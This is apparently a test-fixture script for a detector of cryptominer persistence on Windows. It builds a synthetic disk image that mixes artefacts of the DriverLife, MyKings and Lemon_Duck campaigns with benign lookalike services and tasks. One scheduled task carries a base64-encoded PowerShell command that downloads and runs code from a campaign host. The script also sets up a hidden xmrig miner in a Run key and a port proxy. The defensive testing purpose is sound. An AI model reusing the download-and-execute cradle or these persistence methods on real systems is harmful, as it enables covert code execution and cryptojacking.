#!/bin/sh
# Campaigns known by their names (rules/windows-campaigns.rules): the 驱动人生 (DriverLife)
# worm's service Ddriver running svchost.exe from System32\drivers, its task
# \Microsoft\windows\Bluetooths with an encoded PowerShell download and the port proxy on
# 65531; MyKings' WMI timer subscription fuckyoumm2 whose command alone says little; a
# Lemon_Duck task Rtsa1 and its marker file in Windows\Temp. Benign beside them: an
# Apache service from Program Files, an admin's port proxy 8080 -> intranet web server,
# Windows' own SCM Event Log subscription, a task named like nothing known. And a miner
# started from a Run value written with 8.3 aliases (C:\PROGRA~3\MICROS~2\...), found by
# content under its long names.
set -e
root=$1
here=$(cd "$(dirname "$0")" && pwd)
mk="python3 $here/../../windows/mkwin.py"
samples=${MINETRACE_SAMPLES:-$here/../../../../shared/data/samples}
[ -f "$samples/xmrig.exe" ] || samples=/work/shared/data/samples
$mk base "$root"
mkdir -p "$root/ProgramData/Microsoft"
$mk file "$root" 'C:\ProgramData\Microsoft Update\msupd.exe' "$samples/xmrig.exe"
$mk file "$root" 'C:\Windows\System32\drivers\svchost.exe'
$mk file "$root" 'C:\Program Files\Apache Software Foundation\Apache2.4\bin\httpd.exe'
printf 'ok\n' >"$root/Windows/Temp/kk4kk.log"
cat > "$root/svc.reg" <<'REG'
[ControlSet001\Services\Ddriver]
"DisplayName"="Ddriver"
"ImagePath"=expand:"C:\Windows\system32\drivers\svchost.exe"
"ObjectName"="LocalSystem"
"Start"=dword:00000002
"Type"=dword:00000010

[ControlSet001\Services\Apache2.4]
"DisplayName"="Apache2.4"
"ImagePath"="\"C:\Program Files\Apache Software Foundation\Apache2.4\bin\httpd.exe\" -k runservice"
"ObjectName"="LocalSystem"
"Start"=dword:00000002
"Type"=dword:00000010

[ControlSet001\Services\PortProxy\v4tov4\tcp]
"0.0.0.0/65531"="1.1.1.1/53"
"0.0.0.0/8080"="10.0.0.5/80"
REG
$mk reg "$root" SYSTEM "$root/svc.reg"
cat > "$root/run.reg" <<'REG'
[Microsoft\Windows\CurrentVersion\Run]
"MSUpdate"="C:\\PROGRA~3\\MICROS~2\\msupd.exe --background"
REG
$mk reg "$root" SOFTWARE "$root/run.reg"
enc=$(printf '%s' "IEX (New-Object Net.WebClient).downloadstring('http://v.beahh.com/v'+\$env:USERDOMAIN)" | iconv -t UTF-16LE | base64 -w0)
cat > "$root/bt.xml" <<XML
<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo><URI>\\Microsoft\\windows\\Bluetooths</URI></RegistrationInfo>
  <Triggers><TimeTrigger><Repetition><Interval>PT50M</Interval></Repetition><StartBoundary>2019-01-25T10:10:00</StartBoundary><Enabled>true</Enabled></TimeTrigger></Triggers>
  <Principals><Principal id="Author"><UserId>S-1-5-18</UserId></Principal></Principals>
  <Actions Context="Author"><Exec><Command>powershell</Command><Arguments>-ep bypass -e $enc</Arguments></Exec></Actions>
</Task>
XML
$mk task "$root" 'Microsoft\windows\Bluetooths' "$root/bt.xml"
$mk taskcache "$root" 'Microsoft\windows\Bluetooths' "{B1B2C3D4-0001-4000-8000-000000000001}" powershell "-ep bypass -e $enc"
cat > "$root/rtsa.xml" <<'XML'
<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <Triggers><LogonTrigger><Enabled>true</Enabled></LogonTrigger></Triggers>
  <Actions><Exec><Command>cmd.exe</Command><Arguments>/c start /b C:\ProgramData\Microsoft\svc.exe</Arguments></Exec></Actions>
</Task>
XML
$mk task "$root" 'Rtsa1' "$root/rtsa.xml"
$mk taskcache "$root" 'Rtsa1' "{B1B2C3D4-0002-4000-8000-000000000002}" cmd.exe '/c start /b C:\ProgramData\Microsoft\svc.exe'
cat > "$root/rep.xml" <<'XML'
<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo><Author>CONTOSO\it-admin</Author></RegistrationInfo>
  <Triggers><CalendarTrigger><StartBoundary>2020-01-01T06:00:00</StartBoundary><ScheduleByDay><DaysInterval>1</DaysInterval></ScheduleByDay></CalendarTrigger></Triggers>
  <Actions><Exec><Command>"C:\Program Files\Apache Software Foundation\Apache2.4\bin\httpd.exe"</Command><Arguments>-k restart</Arguments></Exec></Actions>
</Task>
XML
$mk task "$root" 'Restart Apache' "$root/rep.xml"
$mk taskcache "$root" 'Restart Apache' "{B1B2C3D4-0003-4000-8000-000000000003}" '"C:\Program Files\Apache Software Foundation\Apache2.4\bin\httpd.exe"' '-k restart'
python3 "$here/../../windows/mkwmirepo.py" "$root/Windows/System32/wbem/Repository/OBJECTS.DATA" --scenario mykings
rm "$root/svc.reg" "$root/run.reg" "$root/bt.xml" "$root/rtsa.xml" "$root/rep.xml"
